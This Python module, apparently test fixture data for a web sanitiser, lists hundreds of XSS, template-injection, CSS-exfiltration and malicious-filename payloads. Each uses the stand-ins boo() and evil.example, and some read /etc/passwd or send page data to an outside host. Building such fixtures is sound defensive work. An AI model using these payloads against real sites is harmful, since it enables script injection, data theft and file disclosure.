"""What somebody writes who wants a colleague's browser to do something: each tries to call `boo()`, to fetch something
of `evil.example`, or to become an element. None of it is anything but text.

By the way that each would take. A text has them one on each line; a name has them one after another."""

from typing import Final

_SCRIPTS: Final = (
    "<script>boo()</script>", "<SCRIPT>boo()</SCRIPT>", "<ScRiPt>boo()</sCrIpT>", "<script >boo()</script >",
    "<script/x>boo()</script>", "<script\t>boo()</script>", "<script src=//evil.example/a.js></script>",
    "<script src='https://evil.example/a.js'></script>", '<script src="data:text/javascript,boo()"></script>',
    "<script type=module>boo()</script>", '<script type="text/javascript">boo();</script>',
    "<script async src=/static/js/../../evil></script>", "<script defer>boo()</script>",
    "<script nomodule>boo()</script>", "<<script>boo();//<</script>", "<scr<script>ipt>boo()</scr</script>ipt>",
    "<script>boo()//", "<script>boo()<!--", "<script><!--\nboo()\n--></script>",
    "</script><script>boo()</script>", "</title><script>boo()</script>", "</textarea><script>boo()</script>",
    "</style><script>boo()</script>", "</noscript><script>boo()</script>",
    "</option></select><script>boo()</script>", "<script>boo`1`</script>",
    "<script>setTimeout('boo()')</script>", "<script>eval('boo()')</script>",
    "<script>Function('boo()')()</script>", "<script>import('//evil.example/m.js')</script>",
    "<script xlink:href=//evil.example/a.js></script>", "<script\x0c>boo()</script>",
    "%3Cscript%3Eboo()%3C/script%3E", "&lt;script&gt;boo()&lt;/script&gt;",
    "&#60;script&#62;boo()&#60;/script&#62;", "&#x3c;script&#x3e;boo()&#x3c;/script&#x3e;",
    "\\x3cscript\\x3eboo()\\x3c/script\\x3e", "\\u003cscript\\u003eboo()\\u003c/script\\u003e",
)  # fmt: skip
_HANDLERS: Final = (
    "<img src=x onerror=boo()>", "<img src=x onerror='boo()'>", '<img src=x onerror="boo()">',
    "<img src=x onerror=boo`1`>", "<img/src=x/onerror=boo()>", "<img src=x:x onerror=boo()//",
    "<IMG SRC=x ONERROR=boo()>", "<img src=x one\trror=boo()>", "<img src=x onerror\n=boo()>",
    "<img src onerror=&#98;oo()>", "<img src=x onerror=&#x62;&#x6f;&#x6f;()>", "<img srcset=x onerror=boo()>",
    "<picture><source srcset=x onerror=boo()><img onerror=boo()></picture>", "<image src=x onerror=boo()>",
    "<body onload=boo()>", "<body onpageshow=boo()>", "<body onhashchange=boo()>", "<html onmouseover=boo()>",
    "<frameset onload=boo()>", "<input autofocus onfocus=boo()>", "<select autofocus onfocus=boo()>",
    "<textarea autofocus onfocus=boo()>", "<button autofocus onfocus=boo()>x</button>",
    "<a autofocus onfocus=boo() href>x</a>", "<div tabindex=1 autofocus onfocusin=boo()>x</div>",
    "<video src=x onerror=boo()>", "<video><source onerror=boo()></video>", "<audio src=x onerror=boo()>",
    "<audio onloadstart=boo() src=x>", "<details open ontoggle=boo()>x</details>",
    "<marquee onstart=boo()>x</marquee>", "<marquee loop=1 width=0 onfinish=boo()>x</marquee>",
    "<style onload=boo()></style>", "<link rel=stylesheet href=x onerror=boo()>",
    "<div onpointerrawupdate=boo()>x</div>", "<p onmouseenter=boo()>x</p>",
    "<div style='animation:x 1s' onanimationstart=boo()>x</div>", "<div ontransitionend=boo()>x</div>",
    "<form onformdata=boo()><button>x</button></form>", "<dialog open onclose=boo()>x</dialog>",
    "<x onclick=boo() tabindex=1>x</x>", "<b oncopy=boo() onpaste=boo()>x</b>",
    "<div popover id=p onbeforetoggle=boo()>x</div><button popovertarget=p>x</button>",
    "<x contenteditable onblur=boo()>x</x>", "<div onscrollend=boo() onwheel=boo()>x</div>",
    "<x oncontentvisibilityautostatechange=boo() style=content-visibility:auto>x</x>",
)  # fmt: skip
_FOREIGN: Final = (
    "<svg onload=boo()>", "<svg/onload=boo()>", "<svg><script>boo()</script></svg>",
    "<svg><script>&#98;oo()</script>", "<svg><script href=//evil.example/a.js /></svg>",
    "<svg><script xlink:href='data:,boo()'/></svg>", "<svg><animate onbegin=boo() attributeName=x dur=1s>",
    "<svg><set onbegin=boo() attributeName=x>",
    "<svg><a xlink:href='javascript:boo()'><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:boo() /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=boo()>#x'/></svg>",
    "<svg><use href=//evil.example/s.svg#x /></svg>",
    "<svg><image href=//evil.example/i.png onerror=boo() /></svg>",
    "<svg><foreignObject><iframe src=javascript:boo()></svg>",
    "<svg><style><img src=x onerror=boo()></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=boo()>'>",
    "<math><mi xlink:href='javascript:boo()'>x</mi></math>", "<math href='javascript:boo()'>x</math>",
    "<math><mtext><script>boo()</script></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:boo()>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>boo()</script></annotation-xml></math>",
)  # fmt: skip
_ADDRESSES: Final = (
    "javascript:boo()", "JavaScript:boo()", "java\tscript:boo()", "java\nscript:boo()", "java\rscript:boo()",
    "\x01javascript:boo()", " javascript:boo()", "javascript&colon;boo()", "javascript&#58;boo()",
    "javascript&#x3A;boo()", "&#106;avascript:boo()", "jav&#x09;ascript:boo()", "javascript:%62oo()",
    "javascript://evil.example/%0aboo()", "javascript:void(boo())", "javascript:/*--></title></style>*/boo()",
    "vbscript:boo()", "livescript:boo()", "data:text/html,<script>boo()</script>",
    "data:text/html;base64,PHNjcmlwdD5ib28oKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=boo()>",
    "data:,boo()", "blob:https://evil.example/1", "filesystem:http://evil.example/1",
    "view-source:javascript:boo()", "feed:javascript:boo()", "<a href=javascript:boo()>x</a>",
    "<a href='java&Tab;script:boo()'>x</a>", '<a href="javascript&NewLine;:boo()">x</a>',
    "<a href=data:text/html,boo()>x</a>", "[x](javascript:boo())", "![x](javascript:boo())",
    "[x]: javascript:boo()", "<javascript:boo()>", "http://evil.example/\"onmouseover=\"boo()",
    "http://evil.example/'onmouseover='boo()", "http://evil.example/<svg/onload=boo()>",
    "https://evil.example/?q=\"><script>boo()</script>", "www.evil.example/\"><img src=x onerror=boo()>",
    "mailto:a@evil.example\"onfocus=\"boo()", "mailto:a@evil.example?subject=<script>boo()</script>",
    "//evil.example/a", "\\\\evil.example\\a", "http:evil.example", "http://user:boo()@evil.example/",
    "https://evil.example\\@x",
)  # fmt: skip
_ATTRIBUTES: Final = (
    '"><script>boo()</script>', "'><script>boo()</script>", "`><script>boo()</script>",
    '"><img src=x onerror=boo()>', "'><img src=x onerror=boo()>", '" onmouseover="boo()',
    "' onmouseover='boo()", "` onmouseover=`boo()", " onmouseover=boo() ", '" autofocus onfocus="boo()',
    "' autofocus onfocus='boo()", '" style="background:url(//evil.example/b)', "' style='color:red",
    '"/onload="boo()', '">', "'>", "\">'>", "\"'`>", "--><img src=x onerror=boo()>", "/><svg onload=boo()>",
    '\\" onfocus=boo() x="', "\\' onfocus=boo() x='", "&quot; onfocus=&quot;boo()", "&#34; onfocus=&#34;boo()",
    "&#39; onfocus=&#39;boo()", '" x="', "' x='", '" accesskey="x" onclick="boo()',
    '" formaction="javascript:boo()', '" srcdoc="<script>boo()</script>', '" is="x" slot="x',
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 7 * 7 }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% raw %}{% endraw %}",
    "{% include '/etc/passwd' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('boo()')()}}", "[[7*7]]", "{{{boo()}}}", "%(name)s", "%s%n", "{0.__class__}",
    "{name}", "$(boo)", "`boo()`", "*{7*7}", "@{7*7}", "@(7*7)", "${{boo()}}", "<?php boo() ?>",
    "<!--#exec cmd='boo'-->", "{{ ''.__class__.__mro__ }}", "{{ url_for.__globals__ }}", "v-html=boo()",
    "ng-app x {{boo()}}",
)  # fmt: skip
_UNICODE: Final = (
    "\uff1cscript\uff1eboo()\uff1c/script\uff1e", "\u2039script\u203aboo()", "\u02b9onfocus=boo()",
    "\u00c0\u00bcscript>boo()", "+ADw-script+AD4-boo()+ADw-/script+AD4-", "\ufffe<script>boo()</script>",
    "<scr\u0131pt>boo()</scr\u0131pt>", "<\u017fcript>boo()</\u017fcript>", "<svg\u3000onload=boo()>",
    "<svg\u00a0onload=boo()>", "<img src=x onerror\u200b=boo()>", "\u202e<script>boo()</script>\u202c",
    "\u2066<b>x</b>\u2069", "<\u0000script>boo()</script>", "<s\u0000cript>boo()</script>",
    "\u2028<script>boo()</script>", "\u2029boo()//", "%c0%bcscript%c0%beboo()", "%uff1cscript%uff1eboo()",
    "<script\u0338>boo()", "\U000e003cscript\U000e003eboo()", "java\u00adscript:boo()", "javascript\uff1aboo()",
    "\ud83d<script>boo()</script>",
)  # fmt: skip
_STYLES: Final = (
    "<style>*{display:none}</style>", "<style>@import '//evil.example/a.css'</style>",
    "<p style=background:url(//evil.example/p)>", "<div style='width:expression(boo())'>x</div>",
    "<div style=\"background:url('javascript:boo()')\">x</div>",
    "<style>body{background:url(//evil.example/b)}</style>", "</style><style>body{opacity:0}",
    "<x style=behavior:url(#x)>", "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=import href=//evil.example/a>", "red;}</style><script>boo()</script>",
    "<link rel=preload as=script href=//evil.example/a.js>", "<link rel=prefetch href=//evil.example/a>",
    "expression(boo())", "<div style=position:fixed;inset:0>x</div>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
)  # fmt: skip
_ELEMENTS: Final = (
    "<meta http-equiv=refresh content='0;url=javascript:boo()'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta charset=utf-7>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<meta name=referrer content=unsafe-url>", "<base href=//evil.example/>", "<base target=_blank>",
    "<form action=//evil.example><input name=code></form>",
    "<form action=javascript:boo()><button>x</button></form>",
    "<button form=x formaction=javascript:boo()>x</button>", "<isindex type=image src=1 onerror=boo()>",
    "<input type=image src=//evil.example/i>", "<iframe src=javascript:boo()></iframe>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>parent.boo()</script>'></iframe>",
    "<iframe onload=boo()></iframe>", "<object data=javascript:boo()></object>",
    "<object data=//evil.example/o></object>", "<object type=text/html data='data:text/html,boo()'>",
    "<embed src=javascript:boo()>", "<embed src=//evil.example/e.swf>", "<applet code=boo></applet>",
    "<portal src=//evil.example>", "<template><script>boo()</script></template>",
    "<template shadowrootmode=open><script>boo()</script></template>", "<slot onslotchange=boo()></slot>",
    "<map name=x><area href=javascript:boo()></map>", "<table background=//evil.example/t>",
    "<bgsound src=javascript:boo()>", "<layer src=//evil.example>",
    "<frameset><frame src=javascript:boo()></frameset>", "<plaintext>", "<xmp><script>boo()</script></xmp>",
    "<listing><b>x</b></listing>", "<keygen autofocus onfocus=boo()>", "<a name=boo></a>",
    "<img name=getElementById>", "<form id=document><input name=cookie></form>", "<h1>x</h1>", "<b>x</b>",
    "</main></body></html>", "<hr>", "<input name=csrf_token value=x>", "<a ping=//evil.example href=/>x</a>",
    "<draft-form><form></form></draft-form>",
)  # fmt: skip
_HTMX: Final = (
    "<p hx-get=/login/out hx-trigger=load>", "<p hx-post=/me/left hx-trigger=load>",
    "<p data-hx-get=/ data-hx-trigger=load>", "<p hx-on:load=boo()>x</p>", "<p hx-on::load=boo()>x</p>",
    "<p hx-vals='js:{a:boo()}' hx-get=/ hx-trigger=load>", "<p hx-get=/ hx-trigger='load[boo()]'>",
    "<p hx-get=//evil.example hx-trigger=load>", "<p hx-ext=x hx-boost=true>",
    "<p hx-swap-oob=true id=toasts>x</p>", "<p hx-headers='js:{x:boo()}'>", "<p hx-preserve id=x>",
    "<p _='on load boo()'>x</p>", '" hx-get="/" hx-trigger="load', "' hx-on:click='boo()",
    "<p x-data x-init=boo()>", "<p data-action=load->boo#boo>",
)  # fmt: skip
_COMMENTS: Final = (
    "<!-- x -->", "<!--><script>boo()</script>-->", "<!---><script>boo()</script>",
    "<!--!><img src=x onerror=boo()>", "<!--[if gte IE 4]><script>boo()</script><![endif]-->",
    "<![CDATA[<script>boo()</script>]]>", "]]><script>boo()</script>", "--!><script>boo()</script>",
    "<!-- --!><svg onload=boo()>", "<!doctype html>", "<?xml version='1.0'?><x>", "<? boo() ?>", "<!--",
    "<!x><script>boo()</script>", "</ x><img src=x onerror=boo()>", "<//><svg onload=boo()>",
)  # fmt: skip
_MUTATIONS: Final = (
    "<noscript><p title='</noscript><img src=x onerror=boo()>'>",
    "<textarea><p title='</textarea><img src=x onerror=boo()>'>",
    "<title><p title='</title><img src=x onerror=boo()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boo()>",
    "<math><mi><table><mglyph><style><!--</style><img title='--><img src=1 onerror=boo()>'>",
    "<svg><desc><table><caption><svg><style><a title='</style><img src onerror=boo()>'>",
    "<form><math><mtext></form><form><mglyph><style>",
    "<select><template><p title='</template></select><img src onerror=boo()>'>",
    "<x title='`><img src=x onerror=boo()>'>", "<listing>&lt;img src=x onerror=boo()&gt;</listing>",
    "<p id='</p><script>boo()</script>'>", "<a href='x`onmouseover=boo()`'>x</a>",
)  # fmt: skip
_JSON: Final = (
    '"};boo();//', "'};boo();//", '"-boo()-"', "'-boo()-'", "\\\"-boo()//", "\\'-boo()//",
    "</script><svg onload=boo()>", '{"__proto__":{"boo":1}}', "constructor.prototype.boo=1", "*/boo()/*",
    ");boo();(", "\\u2028boo()", "<!--<script>", "${boo()}", "\";document.location='//evil.example",
    "__proto__[innerHTML]=<img/src/onerror=boo()>", "}]}</script><script>boo()</script>",
)  # fmt: skip
_POLYGLOTS: Final = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=boo() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=boo()//>",  # noqa: E501
    "'\">><marquee><img src=x onerror=boo()></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=boo()>",
    "\"'--></style></script><svg onload=boo()>//", "'`\"><\\x3Cscript>boo()</script>",
    "';boo()//\";boo()//--></script>\">'><img src=x onerror=boo()>",
    "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(boo)``>",
    "</p></div></section></main><h1 onclick=boo()>x</h1>",
)  # fmt: skip
#: Of a file that is sent.
FILE_NAMES: Final = (
    '"><img src=x onerror=boo()>.jpg', "'onload='boo().jpg", "<script>boo()</script>.png",
    "javascript:boo().jpg", "{{ 7*7 }}.jpg", "../../etc/passwd.jpg", "..\\..\\boo.jpg", "\u202egpj.exe",
    "a\tb.jpg", "<svg onload=boo()>.svg", "`boo()`.jpg", "%00.jpg", "a;filename=boo.html", "&lt;b&gt;.jpg",
    "con.jpg", ".htaccess", "boo.html", "boo.jpg\u0000.html", "<!--.jpg", "$(boo).jpg",
)  # fmt: skip

PAYLOADS: Final = (
    *_SCRIPTS, *_HANDLERS, *_FOREIGN, *_ADDRESSES, *_ATTRIBUTES, *_TEMPLATES, *_UNICODE, *_STYLES, *_ELEMENTS,
    *_HTMX, *_COMMENTS, *_MUTATIONS, *_JSON, *_POLYGLOTS, *FILE_NAMES,
)  # fmt: skip
